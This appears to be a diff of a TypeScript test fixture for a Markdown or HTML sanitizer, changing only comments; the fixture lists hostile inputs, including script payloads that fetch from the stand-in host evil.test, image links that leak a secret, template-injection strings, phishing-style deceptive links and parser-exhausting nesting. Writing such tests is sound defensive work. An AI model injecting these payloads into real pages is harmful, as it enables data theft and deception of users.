@@ -1,10 +1,13 @@
-/** Texts that make other pages load, run or hide something. `evil.test` must not be asked, and `pwned` must stay undefined. */
+/**
+ * Texts that make other pages load, run or hide something. `evil.test` must receive no request, and `pwned` must stay
+ * undefined.
+ */
 const RUN = 'globalThis.pwned=1;fetch("https://evil.test/run")';
 const hidden = (text: string, base: number): string =>
   [...text].map((each) => String.fromCodePoint(base + (each.codePointAt(0) ?? 0))).join('');
 const nested = (open: string, depth: number, close = ''): string => `${open.repeat(depth)}deep${close.repeat(depth)}`;
 
-/** Addresses that leave the page by being shown: pictures, styles, prefetched pages. */
+/** Addresses that a browser requests on display: pictures, styles, prefetched pages. */
 const LOADS = [
   '![a](https://evil.test/p.png?q=secret)',
   '![a][pic]\n\n[pic]: https://evil.test/ref.png "title"',
@@ -44,7 +47,7 @@ const LOADS = [
   '[^1]\n\n[^1]: ![note](https://evil.test/note.png)',
 ];
 
-/** Code that runs where HTML or addresses are trusted. */
+/** Code that runs if HTML or addresses are trusted. */
 const RUNS = [
   `<script>${RUN}</script>`,
   `<script\n>${RUN}</script >`,
@@ -78,7 +81,7 @@ const RUNS = [
   '{{constructor.constructor("globalThis.pwned=1")()}} ${globalThis.pwned=1} <%= 7*7 %>',
 ];
 
-/** Links and characters that show something else than they are. */
+/** Links and characters that pose as others. */
 const DECEIVES = [
   '[https://bank.example](https://evil.test/bank)',
   '[support@bank.example](mailto:thief@evil.test?subject=password)',
@@ -94,7 +97,7 @@ const DECEIVES = [
   '# <a href="/account">Delete my account</a>\n\n<dialog open>Your session has ended</dialog>',
 ];
 
-/** Texts whose parsing or depth takes seconds, or more stack than there is. */
+/** Texts that take seconds to parse, or nest too deeply for the stack. */
 const EXHAUSTS = [
   nested('>', 4_000),
   nested('- ', 2_000),
